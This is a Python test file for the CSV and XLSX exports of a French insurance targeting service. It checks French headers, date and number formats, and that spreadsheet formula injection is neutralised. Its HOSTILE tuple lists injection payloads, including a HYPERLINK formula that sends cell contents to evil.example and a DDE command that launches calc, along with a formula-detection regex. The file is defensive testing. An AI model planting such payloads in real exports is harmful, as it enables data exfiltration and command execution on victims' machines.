"""Every export route, CSV and XLSX: French headers, the French-Excel convention, and a value
a spreadsheet would evaluate (OWASP's CSV injection) coming out as inert text.

``EXPORTS`` maps each route to its test; ``test_every_export_route_is_listed`` fails when a
service gains an export this file does not try."""

import itertools
import re
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from services.shared.auth import Role
from services.shared.exports import XLSX_MEDIA_TYPE, csv_cell, neutralise
from services.shared.settings import Settings
from services.targeting.caisses.models import Caisse
from services.targeting.policy.models import PolicyAction
from services.targeting.registry.models import InsuredPerson
from services.targeting.targets.models import TargetList, TargetListMember
from tests.conftest import RunJobs
from tests.exports import csv_table, xlsx_table
from tests.factories import TokenFactory, create_caisses, person_csv, person_row
from tests.reporting.conftest import (  # noqa: F401 (fixtures)
    YEAR,
    action_ids,
    clock,
    fixture_stats,
    peer_switch,
    stats_data,
)
from tests.surveys.conftest import SurveyWorld, add_link, create_campaign, world  # noqa: F401

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1;"ouvrir")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "\tTAB",
    "\rRETOUR",
)
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
FORMATS = ["csv", "xlsx"]


@dataclass
class Export:
    client: httpx.AsyncClient
    path: str  # without the extension
    headers: dict[str, str]
    hostile: tuple[str, ...]  # values the export must show, neutralised
    header_starts: tuple[str, ...]


async def _check(export: Export, export_format: str) -> None:
    """French headers; every row of the CSV in the XLSX; hostile values shown, inert."""
    as_csv = await export.client.get(f"{export.path}.csv", headers=export.headers)
    header, *rows = csv_table(as_csv)
    assert as_csv.headers["content-disposition"].endswith('.csv"')
    assert rows, "the export has no rows: the hostile values were not tried"
    assert all(len(row) == len(header) for row in rows)
    if export_format == "xlsx":
        response = await export.client.get(f"{export.path}.xlsx", headers=export.headers)
        assert response.headers["content-disposition"].endswith('.xlsx"')
        header, *xlsx_rows = xlsx_table(response)
        assert len(xlsx_rows) == len(rows)
        cells: list[Any] = [cell for row in xlsx_rows for cell in row]
    else:
        cells = [cell for row in rows for cell in row]
    assert tuple(header[: len(export.header_starts)]) == export.header_starts
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [cell for cell in texts if FORMULA_START.match(cell)]
    for value in export.hostile:
        assert f"'{value}" in texts, f"{value!r} missing or not neutralised"


@pytest.mark.usefixtures("action_ids")  # ALPES's EIG list, frozen
@pytest.mark.parametrize("export_format", FORMATS)
async def test_target_list(
    export_format: str,
    session: AsyncSession,
    tokens: TokenFactory,
    targeting_client: httpx.AsyncClient,
) -> None:
    list_id = await session.scalar(select(TargetList.id).where(TargetList.caisse_code == "ALPES"))
    members = select(TargetListMember.person_id).where(TargetListMember.list_id == list_id)
    values = itertools.cycle(HOSTILE)
    for person in await session.scalars(select(InsuredPerson).where(InsuredPerson.id.in_(members))):
        person.last_name, person.city = next(values), next(values)
    await session.flush()
    export = Export(
        targeting_client,
        f"/target-lists/{list_id}/export",
        tokens.headers(Role.CAISSE_MANAGER, "ALPES"),
        HOSTILE,
        ("Rang", "Groupe de priorité", "Identifiant de l'assuré", "Nom", "Prénom"),
    )
    await _check(export, export_format)


@pytest.mark.parametrize("export_format", FORMATS)
async def test_import_errors(
    export_format: str,
    session: AsyncSession,
    tokens: TokenFactory,
    targeting_client: httpx.AsyncClient,
    run_jobs: RunJobs,
) -> None:
    """The error report never repeats a value of the file: nothing hostile may come out."""
    await create_caisses(session)
    client = targeting_client
    headers = tokens.headers(Role.CAISSE_MANAGER, "ALPES")
    rows = [person_row(last_name=value, nir=value) for value in HOSTILE]
    started = await client.post(
        "/imports",
        files={"file": ("assures.csv", person_csv(rows), "text/csv")},
        data={"mode": "keep_valid"},
        headers=headers,
    )
    assert started.status_code == 202, started.text
    await run_jobs()
    export = Export(
        client, f"/imports/{started.json()['id']}/errors", headers, (), ("Ligne", "Colonne")
    )
    await _check(export, export_format)


@pytest.mark.parametrize("export_format", FORMATS)
async def test_survey_answers(
    export_format: str,
    surveys_client: httpx.AsyncClient,
    tokens: TokenFactory,
    session: AsyncSession,
    settings: Settings,
    world: SurveyWorld,  # noqa: F811 (the fixture)
) -> None:
    client, surveys = surveys_client, world
    campaign = await create_campaign(client, tokens, surveys.national_v1, surveys.eig)
    answers: dict[str, Any] = {
        "accueil": 4, "clarte": 4, "utilite": "Très utiles", "canal": True,
        "overall_satisfaction": 5,
    }  # fmt: skip
    for person, comment in enumerate(HOSTILE, start=1):
        token = await add_link(session, settings, int(str(campaign["id"])), person)
        answered = await client.post(
            f"/answer/{token}", json={"answers": {**answers, "commentaire": comment}}
        )
        assert answered.status_code == 200, answered.text
    export = Export(
        client,
        "/results/answers",
        tokens.headers(Role.CAISSE_MANAGER, "ALPES"),
        # Free text is stored trimmed: the tab and the carriage return go.
        tuple(v.strip() for v in HOSTILE if FORMULA_START.match(v.strip())),
        ("Réponse", "Date", "Caisse"),
    )
    await _check(export, export_format)


@pytest.fixture
async def hostile_reporting(fixture_stats: dict[str, int], session: AsyncSession) -> None:  # noqa: F811
    """An action title and a caisse name a spreadsheet would evaluate."""
    await session.execute(
        update(PolicyAction).where(PolicyAction.code == "EIG").values(title=HOSTILE[0])
    )
    await session.execute(update(Caisse).where(Caisse.code == "ALPES").values(name=HOSTILE[1]))


@pytest.mark.usefixtures("hostile_reporting")
@pytest.mark.parametrize("export_format", FORMATS)
async def test_bilan(
    export_format: str, reporting_client: httpx.AsyncClient, tokens: TokenFactory
) -> None:
    export = Export(
        reporting_client,
        f"/v1/bilans/{YEAR}/ALPES/export",
        tokens.headers(Role.CAISSE_MANAGER, "ALPES"),
        HOSTILE[:1],
        ("Caisse", "Année", "Statut", "Version", "Code de l'action", "Intitulé"),
    )
    await _check(export, export_format)


@pytest.mark.usefixtures("hostile_reporting")
@pytest.mark.parametrize("export_format", FORMATS)
async def test_national(
    export_format: str, reporting_client: httpx.AsyncClient, tokens: TokenFactory
) -> None:
    export = Export(
        reporting_client,
        f"/v1/national/{YEAR}/export",
        tokens.headers(Role.NATIONAL),
        HOSTILE[1:2],
        ("Caisse", "Nom", "État", "Version", "Transmis le"),
    )
    await _check(export, export_format)


# Each export route and the test above that tries it.
EXPORTS = {
    "targeting /target-lists/{list_id}/export": test_target_list,
    "targeting /imports/{job_id}/errors": test_import_errors,
    "surveys /results/answers": test_survey_answers,
    "reporting /v1/bilans/{year}/{caisse_code}/export": test_bilan,
    "reporting /v1/national/{year}/export": test_national,
}


def test_every_export_route_is_listed(
    targeting_app: FastAPI, surveys_app: FastAPI, reporting_app: FastAPI, interviews_app: FastAPI
) -> None:
    apps = {
        "targeting": targeting_app,
        "surveys": surveys_app,
        "reporting": reporting_app,
        "interviews": interviews_app,
    }
    found = set()
    for name, app in apps.items():
        for path, item in app.openapi()["paths"].items():
            for operation in item.values():
                content = operation.get("responses", {}).get("200", {}).get("content", {})
                if "text/csv" in content or path.endswith(".{format}"):
                    found.add(f"{name} {path.removesuffix('.{format}')}")
                    # Both formats from the one route of the shared module.
                    assert path.endswith(".{format}") and XLSX_MEDIA_TYPE in content, path
    assert found == set(EXPORTS)


async def test_an_unknown_format_is_a_422_naming_it(
    targeting_client: httpx.AsyncClient, tokens: TokenFactory
) -> None:
    response = await targeting_client.get(
        "/imports/00000000-0000-0000-0000-000000000000/errors.ods",
        headers=tokens.headers(Role.ADMIN),
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "format"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "oui"),
        (False, "non"),
        (0.75, "0,7500"),
        (12, "12"),
        (date(2012, 1, 31), "31/01/2012"),
        # UTC in winter is Paris minus one hour; microseconds dropped.
        (datetime.fromisoformat("2012-01-20T10:00:00.123456+00:00"), "20/01/2012 11:00:00"),
        (datetime.fromisoformat("2012-07-20T10:00:00+00:00"), "20/07/2012 12:00:00"),
        ("=1+1", "'=1+1"),
        ("Dupont", "Dupont"),
    ],
)
def test_cells_in_the_french_convention(value: object, expected: str) -> None:
    assert csv_cell(value) == expected


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Jean-Pierre") == "Jean-Pierre"
    assert neutralise("-1") == "'-1"
